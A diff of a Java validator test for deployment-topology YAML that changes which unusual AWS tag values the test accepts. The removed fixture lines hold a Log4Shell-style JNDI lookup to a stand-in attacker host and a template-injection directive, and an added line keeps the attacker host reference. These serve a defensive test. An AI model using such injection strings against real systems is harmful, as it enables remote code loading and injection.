@@ -93,20 +93,20 @@ class ValidTopologiesTest {
   }
 
   @Test
-  void acceptsHostileButLegalTagValues() throws IOException {
+  /** What AWS takes in tags (letters of any script, digits, spaces, _.:/=+-@), however odd; the rest is DRS049. */
+  void acceptsUnusualButLegalTagValues() throws IOException {
     Run run =
         validate(
             """
             version: 1
             name: hostile
             tags:
-              Quote: 'say "hello"'
-              Backslash: 'C:\\temp\\'
-              Newline: "line one\\nline two"
-              Jndi: "${jndi:ldap://attacker.example/a}"
-              Directive: "%{ if true }x%{ endif }"
-              "cost-center/team": "a=b; c"
-              Unicode: "東京 → 大阪"
+              "Key with spaces": "say hello"
+              Path: "C:/temp/"
+              Jndi: "jndi:ldap://attacker.example/a"
+              "cost-center/team": "a=b: c@d+e"
+              Unicode: "東京 大阪 𠀀 Ⅻ ²"
+              Empty: ""
               Number: 42
             regions:
               - name: ap-northeast-1
